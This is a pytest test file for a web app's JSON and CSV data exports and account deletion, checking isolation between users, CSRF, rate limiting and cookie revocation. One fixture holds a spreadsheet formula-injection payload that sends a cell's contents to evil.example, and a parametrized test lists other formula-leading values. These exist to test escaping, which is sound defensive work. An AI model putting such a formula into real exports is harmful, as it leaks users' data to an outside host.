"""Your data: the JSON and CSV exports, and deleting an account with every row that belongs to it."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime, timedelta

import pytest
from sqlalchemy import func, select

from careerprep.account.data import csv_cell
from careerprep.account.deletion import deletions
from careerprep.extensions import db
from careerprep.localtime import zone
from careerprep.models import (
    ActivityDay,
    CardFlag,
    MockInterview,
    MockItem,
    Question,
    Report,
    Review,
    Role,
    RolePlan,
    User,
    UserSession,
)
from tests.conftest import PASSWORD, bank_dict, card_state, count_queries, load_bank, make_user

T0 = datetime(2025, 3, 1, 20, 0, tzinfo=UTC)
LONG_PROMPT = "Explain, in detail, " + "why this matters " * 30
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def bank(app):
    """One role, one set, five questions; q-0 has a prompt longer than the export keeps."""
    data = bank_dict(n_questions=5)
    data["sets"][0]["questions"][0]["prompt"] = LONG_PROMPT
    load_bank(app, data)


def question_ids(app) -> dict[str, int]:
    with app.app_context():
        return dict(db.session.execute(select(Question.key, Question.id)).all())


def add_reviews(app, user_id: int, count: int, tag: str, **overrides) -> None:
    """`count` reviews by the user, spread over the questions, an hour apart from T0."""
    qids = list(question_ids(app).values())
    with app.app_context():
        for n in range(count):
            fields = {
                "user_id": user_id,
                "question_id": qids[n % len(qids)],
                "token": f"{tag}-token-{n}",
                "rating": 1 + n % 4,
                "reviewed_at": T0 + timedelta(hours=n),
                "duration_ms": 12_300,
                "state": 2,
                "step": None,
                "stability": 4.5,
                "difficulty": 5.25,
                "due": T0 + timedelta(days=3),
                "interval_seconds": 3 * 86400,
                "draft": None,
                "covered": None,
                "key_point_count": None,
                "mode": "due",
            }
            db.session.add(Review(**{**fields, **overrides}))
        db.session.commit()


def seed(app, user: User, tag: str) -> None:
    """A user's whole footprint: card states, reviews with drafts and coverage, flags, a plan, a mock."""
    qids = question_ids(app)
    with app.app_context():
        role_id = db.session.scalar(select(Role.id))
        db.session.add_all(
            [
                card_state(user.id, qids["q-0"], reps=2, lapses=1, stability=4.5, due=T0 + timedelta(days=3)),
                card_state(user.id, qids["q-1"]),
                CardFlag(user_id=user.id, question_id=qids["q-1"], suspended=True, leech=True),
                # Buried before its first rating: a flag with no card state.
                CardFlag(
                    user_id=user.id,
                    question_id=qids["q-2"],
                    suspended=False,
                    leech=False,
                    buried_until=T0 + timedelta(days=1),
                ),
                RolePlan(user_id=user.id, role_id=role_id, interview_date=date(2025, 4, 15)),
                Report(user_id=user.id, question_id=qids["q-0"], reason="unclear", comment=f"{tag} report"),
                # The dashboard's roll-up of their closed days (derived, but theirs: deleted with them).
                ActivityDay(user_id=user.id, day=T0.date(), rating=3, reviews=2, review_state=2, ms=90_000),
            ]
        )
        for n, (key, draft, covered) in enumerate(
            [("q-0", f"{tag} draft about locks", [0, 2]), ("q-1", f"{tag} draft about queues", [1])]
        ):
            db.session.add(
                Review(
                    user_id=user.id,
                    question_id=qids[key],
                    token=f"{tag}-review-token-{n}",
                    rating=3,
                    reviewed_at=T0 + timedelta(minutes=n),
                    duration_ms=45_000,
                    state=2,
                    step=None,
                    stability=4.5,
                    difficulty=5.25,
                    due=T0 + timedelta(days=3),
                    interval_seconds=3 * 86400,
                    draft=draft,
                    covered=covered,
                    key_point_count=3,
                    mode="mock" if n else "due",
                )
            )
        mock = MockInterview(
            user_id=user.id,
            role_id=role_id,
            created_at=T0,
            finished_at=T0 + timedelta(minutes=10),
            seconds_per_question=360,
            categories=["Alpha"],
        )
        mock.items = [
            MockItem(
                position=1,
                question_id=qids["q-3"],
                started_at=T0,
                answered_at=T0 + timedelta(minutes=4),
                draft=f"{tag} mock answer",
                rating=2,
                covered=[0],
            ),
            MockItem(position=2, question_id=qids["q-4"]),
        ]
        db.session.add(mock)
        db.session.commit()


def login(client, email: str, remember: bool = False) -> None:
    data = {"email": email, "password": PASSWORD, **({"remember": "y"} if remember else {})}
    assert client.post("/auth/login", data=data).status_code == 303


@pytest.fixture
def other(app, bank):
    """A second user with their own data, which must never leak or be touched."""
    someone = make_user(app, email="other@example.com", display_name="Other Person")
    seed(app, someone, "OTHER")
    return someone


def export(client) -> tuple[dict, str]:
    response = client.get("/account/export.json")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    return json.loads(body), body


# -- the account page ------------------------------------------------------------------------------


def test_account_page_offers_the_downloads_and_the_delete_form(logged_in):
    html = logged_in.get("/account/").get_data(as_text=True)
    assert 'href="/account/export.json"' in html
    assert 'href="/account/reviews.csv"' in html
    assert 'action="/account/delete"' in html
    assert '<label for="delete-password">Your password</label>' in html
    assert 'id="delete-password"' in html and 'autocomplete="current-password"' in html
    assert re.search(
        r'<label class="checkbox"><input id="delete-confirm" name="delete-confirm"[^>]*type="checkbox"[^>]*>'
        r" I understand this deletes all my progress permanently</label>",
        html,
    )


# -- JSON export -----------------------------------------------------------------------------------


def test_json_export_has_every_section_and_only_this_users_data(app, logged_in, user, bank, other):
    seed(app, user, "MINE")
    before = datetime.now(UTC)
    response = logged_in.get("/account/export.json")
    assert response.status_code == 200
    assert response.mimetype == "application/json"
    assert response.headers["Cache-Control"] == "no-store"
    day = datetime.now(UTC).astimezone(zone(user.timezone)).date().isoformat()
    assert response.headers["Content-Disposition"] == f'attachment; filename="careerprep-export-{day}.json"'
    body = response.get_data(as_text=True)
    data = json.loads(body)

    assert list(data) == [
        "exported_at",
        "format_version",
        "profile",
        "settings",
        "interview_dates",
        "cards",
        "reviews",
        "mock_interviews",
        "sessions",
    ]
    assert data["format_version"] == 1
    assert before <= datetime.fromisoformat(data["exported_at"]) <= datetime.now(UTC)
    assert data["exported_at"].endswith("+00:00")
    assert data["profile"]["email"] == user.email
    assert data["profile"]["display_name"] == user.display_name
    assert data["profile"]["is_admin"] is False
    assert datetime.fromisoformat(data["profile"]["created_at"]).utcoffset() == timedelta(0)
    assert data["settings"] == {
        "new_per_day": 10,
        "max_reviews_per_day": 200,
        "desired_retention": 0.9,
        "draft_enabled": False,
        "mock_questions": 5,
        "mock_minutes": 6,
        "timezone": "UTC",
    }
    assert data["interview_dates"] == [{"role": "test-role", "date": "2025-04-15"}]

    cards = {card["question_key"]: card for card in data["cards"]}
    assert set(cards) == {"q-0", "q-1", "q-2"}
    first = cards["q-0"]
    assert first["role"] == "test-role" and first["set"] == "basics"
    assert first["prompt"] == LONG_PROMPT[:200] and len(LONG_PROMPT) > 200
    assert (first["state"], first["reps"], first["lapses"], first["stability"]) == (2, 2, 1, 4.5)
    assert first["due"] == (T0 + timedelta(days=3)).isoformat()
    assert "suspended" not in first  # no flag on this card
    assert (cards["q-1"]["suspended"], cards["q-1"]["leech"], cards["q-1"]["buried_until"]) == (
        True,
        True,
        None,
    )
    assert cards["q-2"]["state"] is None  # buried before its first rating
    assert cards["q-2"]["buried_until"] == (T0 + timedelta(days=1)).isoformat()

    assert [r["question_key"] for r in data["reviews"]] == ["q-0", "q-1"]
    review = data["reviews"][0]
    assert review["role"] == "test-role"
    assert review["reviewed_at"] == "2025-03-01T20:00:00+00:00"
    assert review["draft"] == "MINE draft about locks"
    assert review["covered"] == [0, 2] and review["key_point_count"] == 3
    assert (review["rating"], review["duration_ms"], review["interval_seconds"]) == (3, 45_000, 259_200)
    assert (review["state"], review["stability"], review["difficulty"]) == (2, 4.5, 5.25)
    assert review["due"] == "2025-03-04T20:00:00+00:00"
    assert data["reviews"][1]["mode"] == "mock"
    assert isinstance(review["id"], int)

    [mock] = data["mock_interviews"]
    assert mock["role"] == "test-role"
    assert mock["created_at"] == T0.isoformat()
    assert mock["finished_at"] == (T0 + timedelta(minutes=10)).isoformat()
    assert mock["rated_at"] is None
    assert (mock["seconds_per_question"], mock["categories"]) == (360, ["Alpha"])
    assert [item["question_key"] for item in mock["items"]] == ["q-3", "q-4"]
    assert mock["items"][0] == {
        "position": 1,
        "set": "basics",
        "question_key": "q-3",
        "draft": "MINE mock answer",
        "rating": 2,
        "covered": [0],
        "started_at": T0.isoformat(),
        "answered_at": (T0 + timedelta(minutes=4)).isoformat(),
        "review_id": None,
    }
    assert mock["items"][1]["draft"] is None and mock["items"][1]["answered_at"] is None

    [signed_in] = data["sessions"]
    assert set(signed_in) == {"created_at", "revoked_at", "user_agent"}
    assert signed_in["revoked_at"] is None

    # Nothing of the other user's, and no secret of anyone's.
    assert "OTHER" not in body and "other@example.com" not in body and "Other Person" not in body
    with app.app_context():
        secrets = [u.password_hash for u in db.session.scalars(select(User))]
        secrets += db.session.scalars(select(UserSession.token_hash)).all()
        secrets += db.session.scalars(select(Review.token)).all()
    assert secrets and not [secret for secret in secrets if secret in body]
    assert "password" not in body and "token" not in body


def test_json_export_of_a_new_account_is_valid_and_empty(logged_in, user):
    data, _body = export(logged_in)
    assert data["profile"]["email"] == user.email
    assert data["interview_dates"] == data["cards"] == data["reviews"] == data["mock_interviews"] == []
    assert len(data["sessions"]) == 1


def test_json_export_uses_the_same_number_of_queries_for_3_and_300_reviews(app, bank):
    counts = []
    for n, reviews in enumerate((3, 300)):
        someone = make_user(app, email=f"volume{n}@example.com")
        seed(app, someone, f"V{n}")
        add_reviews(app, someone.id, reviews, f"volume{n}", draft="an answer", covered=[1], key_point_count=3)
        client = app.test_client()
        login(client, someone.email)
        with count_queries(app) as statements:
            data, _body = export(client)
        assert len(data["reviews"]) == reviews + 2
        counts.append(len(statements))
    assert counts[0] == counts[1]
    assert counts[0] <= 8  # sign-in check plus one query per section


# -- CSV export ------------------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_export_has_a_header_and_one_row_per_review_in_local_time(app, client, bank, other):
    kolkata = make_user(app, email="kolkata@example.com", timezone="Asia/Kolkata")
    seed(app, kolkata, "MINE")
    add_reviews(app, kolkata.id, 1, "formula", reviewed_at=T0 + timedelta(hours=2), draft=HYPERLINK, rating=4)
    login(client, kolkata.email)
    response = client.get("/account/reviews.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    day = datetime.now(UTC).astimezone(zone("Asia/Kolkata")).date().isoformat()
    assert response.headers["Content-Disposition"] == f'attachment; filename="careerprep-reviews-{day}.csv"'
    rows = read_csv(response)
    assert rows[0] == [
        "reviewed_at",
        "reviewed_at_local",
        "role",
        "set",
        "question_key",
        "category",
        "rating",
        "rating_label",
        "duration_seconds",
        "state_after",
        "stability",
        "difficulty",
        "due",
        "interval_days",
        "mode",
        "key_points_covered",
        "key_points_total",
        "draft",
    ]
    assert len(rows) == 1 + 3
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first == {
        "reviewed_at": "2025-03-01T20:00:00+00:00",
        "reviewed_at_local": "2025-03-02T01:30:00+05:30",
        "role": "test-role",
        "set": "basics",
        "question_key": "q-0",
        "category": "Alpha",
        "rating": "3",
        "rating_label": "Good",
        "duration_seconds": "45.0",
        "state_after": "Review",
        "stability": "4.5",
        "difficulty": "5.25",
        "due": "2025-03-04T20:00:00+00:00",
        "interval_days": "3.0",
        "mode": "due",
        "key_points_covered": "2",
        "key_points_total": "3",
        "draft": "MINE draft about locks",
    }
    formula = dict(zip(rows[0], rows[3], strict=True))
    assert formula["draft"] == "'" + HYPERLINK
    assert (formula["rating_label"], formula["key_points_covered"], formula["key_points_total"]) == (
        "Easy",
        "",
        "",
    )
    assert "OTHER" not in response.get_data(as_text=True)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("a = b", "a = b"),
        (None, ""),
        (3, "3"),
    ],
)
def test_csv_cells_never_start_a_formula(value, cell):
    assert csv_cell(value) == cell


def test_csv_export_of_a_new_account_is_only_the_header(logged_in):
    rows = read_csv(logged_in.get("/account/reviews.csv"))
    assert len(rows) == 1 and rows[0][0] == "reviewed_at"


# -- deleting the account --------------------------------------------------------------------------


def rows_of(app, user_id: int, mock_ids: list[int]) -> dict[str, int]:
    """Per table, how many rows reference the user (user_id columns, the user row, mock items by mock)."""
    counts = {}
    with app.app_context():
        for table in db.metadata.sorted_tables:
            conditions = []
            if "user_id" in table.c:
                conditions.append(table.c.user_id == user_id)
            if table.name == "user":
                conditions.append(table.c.id == user_id)
            if "mock_id" in table.c and mock_ids:
                conditions.append(table.c.mock_id.in_(mock_ids))
            for condition in conditions:
                found = db.session.scalar(select(func.count()).select_from(table).where(condition))
                counts[table.name] = counts.get(table.name, 0) + found
    return counts


def mock_ids_of(app, user_id: int) -> list[int]:
    with app.app_context():
        return list(db.session.scalars(select(MockInterview.id).where(MockInterview.user_id == user_id)))


@pytest.fixture
def doomed(app, logged_in, user, bank, other):
    """The signed-in user with a full footprint, and how many rows of theirs there are."""
    seed(app, user, "MINE")
    counts = rows_of(app, user.id, mock_ids_of(app, user.id))
    assert all(counts[name] for name in counts if name != "user_session")
    return counts


@pytest.mark.parametrize(
    ("form", "message"),
    [
        ({"delete-password": "not my password", "delete-confirm": "y"}, "That is not your password."),
        ({"delete-password": PASSWORD}, "Tick the box to confirm."),
        ({"delete-confirm": "y"}, "Enter your password."),
        ({}, "Enter your password."),
    ],
)
@pytest.mark.parametrize("htmx", [False, True])
def test_refused_delete_is_422_beside_the_field_and_deletes_nothing(
    app, logged_in, user, doomed, form, message, htmx
):
    headers = {"HX-Request": "true"} if htmx else {}
    response = logged_in.post("/account/delete", data=form, headers=headers)
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert re.search(
        rf'<p class="field-error" id="delete-(password|confirm)-error">{re.escape(message)}</p>', html
    )
    assert "Your account was not deleted." in html
    assert rows_of(app, user.id, mock_ids_of(app, user.id)) == doomed
    assert logged_in.get("/dashboard").status_code == 200


def test_delete_removes_every_row_of_the_user_and_signs_out(app, logged_in, user, doomed, other):
    mine = mock_ids_of(app, user.id)
    theirs = mock_ids_of(app, other.id)
    other_before = rows_of(app, other.id, theirs)
    with count_queries(app) as statements:
        response = logged_in.post(
            "/account/delete", data={"delete-password": PASSWORD, "delete-confirm": "y"}
        )
    assert response.status_code == 303
    assert response.headers["Location"] == "/"
    # Every table was emptied explicitly, children before the rows they point to.
    deleted = [m.group(1) for s in statements if (m := re.match(r'DELETE FROM "?(\w+)"?', s))]
    assert deleted == [
        "mock_item",
        "mock_interview",
        "review",
        "activity_day",
        "card_flag",
        "card_state",
        "role_plan",
        "report",
        "user_session",
        "user",
    ]

    landing = logged_in.get("/")
    assert landing.status_code == 200
    assert "Your account and all its data have been deleted." in landing.get_data(as_text=True)
    assert "Sign in" in landing.get_data(as_text=True)
    dashboard = logged_in.get("/dashboard")
    assert dashboard.status_code == 303 and dashboard.headers["Location"].startswith("/auth/login")

    # Walk every table: no row references the user any more; the other user's rows are untouched.
    remaining = rows_of(app, user.id, mine)
    assert set(remaining) == {t.name for t in db.metadata.sorted_tables if "user_id" in t.c} | {
        "user",
        "mock_item",
    }
    assert not {name: n for name, n in remaining.items() if n}
    assert rows_of(app, other.id, theirs) == other_before
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Question)) == 5  # the catalogue stays
    login(app.test_client(), other.email)


def test_deletions_cover_every_table_that_leads_to_a_user():
    """A new table pointing at the user (directly or through another of theirs) must join the delete."""
    owned = {"user"}
    while True:
        pointing = {
            table.name
            for table in db.metadata.sorted_tables
            if any(fk.column.table.name in owned for fk in table.foreign_keys)
        }
        if pointing <= owned:
            break
        owned |= pointing
    deleted = [statement.table.name for statement in deletions(1)]
    assert set(deleted) == owned
    # Each table is deleted before every table it points to.
    for table in db.metadata.sorted_tables:
        for fk in table.foreign_keys:
            if table.name in deleted and fk.column.table.name in deleted and fk.column.table is not table:
                assert deleted.index(table.name) < deleted.index(fk.column.table.name)


@pytest.mark.parametrize("names", [("session",), ("remember_token",), ("session", "remember_token")])
def test_cookies_copied_before_deletion_stop_working(app, client, bank, names):
    doomed_user = make_user(app, email="gone@example.com")
    login(client, doomed_user.email, remember=True)
    thief = app.test_client()
    for name in names:
        thief.set_cookie(name, client.get_cookie(name).value)
    assert thief.get("/dashboard").status_code == 200
    response = client.post("/account/delete", data={"delete-password": PASSWORD, "delete-confirm": "y"})
    assert response.status_code == 303
    assert thief.get("/dashboard").status_code == 303
    assert thief.get("/account/export.json").status_code == 303
    # Nor can anyone sign in as them again.
    assert (
        app.test_client()
        .post("/auth/login", data={"email": "gone@example.com", "password": PASSWORD})
        .status_code
        == 422
    )


def test_delete_via_htmx_answers_with_hx_redirect(app, logged_in, user):
    response = logged_in.post(
        "/account/delete",
        data={"delete-password": PASSWORD, "delete-confirm": "y"},
        headers={"HX-Request": "true"},
    )
    assert response.status_code == 204
    assert response.headers["HX-Redirect"] == "/"
    with app.app_context():
        assert db.session.get(User, user.id) is None


def test_the_last_admin_can_delete_their_account(app, client):
    admin = make_user(app, email="admin@example.com", is_admin=True)
    login(client, admin.email)
    assert (
        client.post("/account/delete", data={"delete-password": PASSWORD, "delete-confirm": "y"}).status_code
        == 303
    )
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(User)) == 0


def test_delete_needs_the_csrf_token(make_app):
    app = make_app(WTF_CSRF_ENABLED=True)
    client = app.test_client()
    someone = make_user(app)
    page = client.get("/auth/login").get_data(as_text=True)
    token = re.search(r'"X-CSRFToken": "([^"]+)"', page).group(1)
    client.post("/auth/login", data={"email": someone.email, "password": PASSWORD, "csrf_token": token})
    form = {"delete-password": PASSWORD, "delete-confirm": "y"}
    assert client.post("/account/delete", data=form).status_code == 400
    with app.app_context():
        assert db.session.get(User, someone.id) is not None
    page = client.get("/account/").get_data(as_text=True)
    token = re.search(r'name="delete-csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    assert client.post("/account/delete", data={**form, "delete-csrf_token": token}).status_code == 303
    with app.app_context():
        assert db.session.get(User, someone.id) is None


def test_delete_is_rate_limited_like_a_sign_in(make_app):
    app = make_app(RATELIMIT_ENABLED=True)
    client = app.test_client()
    someone = make_user(app)
    login(client, someone.email)
    wrong = {"delete-password": "wrong password", "delete-confirm": "y"}
    statuses = [client.post("/account/delete", data=wrong).status_code for _ in range(11)]
    assert statuses == [422] * 10 + [429]
    right = {"delete-password": PASSWORD, "delete-confirm": "y"}
    assert client.post("/account/delete", data=right).status_code == 429
    with app.app_context():
        assert db.session.get(User, someone.id) is not None


# -- access ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "url"),
    [("get", "/account/export.json"), ("get", "/account/reviews.csv"), ("post", "/account/delete")],
)
def test_anonymous_users_are_sent_to_sign_in(client, method, url):
    response = getattr(client, method)(url)
    assert response.status_code == 303
    assert response.headers["Location"].startswith("/auth/login")


def test_delete_only_accepts_post(client, logged_in):
    assert client.get("/account/delete").status_code == 405
